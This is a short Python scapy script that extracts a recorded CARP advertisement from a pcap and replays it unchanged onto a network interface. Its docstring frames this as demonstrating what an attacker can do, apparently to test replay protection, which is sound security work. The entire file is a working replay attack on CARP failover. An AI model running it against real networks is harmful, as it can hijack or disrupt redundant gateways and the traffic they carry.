#!/usr/bin/python3
"""Replay the last CARP advertisement from SRC found in a pcap, with scapy.

usage: replay_carp.py PCAP SRC IFACE COUNT
The IP packet is sent unchanged (same source, counter and HMAC): exactly
what an attacker who recorded the master's advertisements can do.
"""
import sys

from scapy.all import IP, Ether, conf, get_if_hwaddr, rdpcap, sendp

conf.verb = 0


def main():
    pcap, src, iface, count = sys.argv[1:5]
    last = None
    for p in rdpcap(pcap):
        if IP in p and p[IP].src == src and p[IP].proto == 112:
            last = p[IP]
    if last is None:
        sys.exit("no CARP packet from %s in %s" % (src, pcap))
    frame = Ether(src=get_if_hwaddr(iface), dst="01:00:5e:00:00:12") / last
    sendp(frame, iface=iface, count=int(count))


if __name__ == "__main__":
    main()
